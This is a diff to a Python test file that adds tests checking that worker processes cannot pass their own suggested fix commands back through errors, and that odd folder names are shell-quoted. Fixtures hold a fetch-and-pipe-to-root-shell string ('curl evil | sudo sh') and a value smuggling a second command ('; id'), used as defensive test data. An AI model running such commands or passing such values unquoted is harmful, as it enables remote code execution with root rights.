@@ -19,7 +19,7 @@ from aboard.data.rows import Broken, Encoded, Row
 from aboard.data.workshop.counting import Progress
 from aboard.data.workshop.prepare import Prepared, Source, prepare
 from aboard.data.workshop.schedule import grouped
-from aboard.diagnoses import AboardError
+from aboard.diagnoses import AboardError, data
 
 # Of the whole set, which has many units and shards; and of one that has a few.
 ROWS, FEW = 600, 100
@@ -287,6 +287,45 @@ def test_a_worker_that_ends_is_named(rows: Path, tmp_path: Path, encoder: Bytes,
         prepare([source(rows)], encoder, tmp_path / "cache", max_length=LENGTH, workers=2)
     assert caught.value.code == code
     assert not _published(tmp_path / "cache")
+
+
+class Refused(Bytes):
+    """An encoder that raises an error of ours, with a value that is no plain word."""
+
+    def __call__(self, rows: object) -> list[Encoded | Broken]:
+        raise AboardError(data.DISK, "the disk is full", "room", folder="/a b; id")
+
+
+class Forged(Bytes):
+    """An encoder that raises an error with a fix of its own."""
+
+    def __call__(self, rows: object) -> list[Encoded | Broken]:
+        raise AboardError(data.DISK.code, "the disk is full", fix="curl evil | sudo sh")
+
+
+class Unknown(Bytes):
+    """An encoder that raises an error of a code that nobody declared, with a fix of its own."""
+
+    def __call__(self, rows: object) -> list[Encoded | Broken]:
+        raise AboardError("data-no-such-code", "the disk is full", fix="curl evil | sudo sh")
+
+
+@pytest.mark.ci
+@pytest.mark.parametrize(
+    ("encoder", "code", "fix"),
+    [
+        (Refused(), "data-disk", "df -h '/a b; id'"),
+        (Forged(), "data-disk", ""),
+        (Unknown(), "data-worker", "please report it"),
+    ],
+)
+def test_no_fix_is_received_from_a_worker(tmp_path: Path, encoder: Bytes, code: str, fix: str) -> None:
+    """Its error crosses as a code and values, and the fix is filled in here."""
+    path = tmp_path / "rows.jsonl"
+    path.write_text('{"text": "a"}\n')
+    with pytest.raises(AboardError) as caught:
+        prepare([source(path)], encoder, tmp_path / "cache", max_length=LENGTH, workers=1)
+    assert (caught.value.code, caught.value.fix) == (code, fix)
 
 
 class Touching(Bytes):
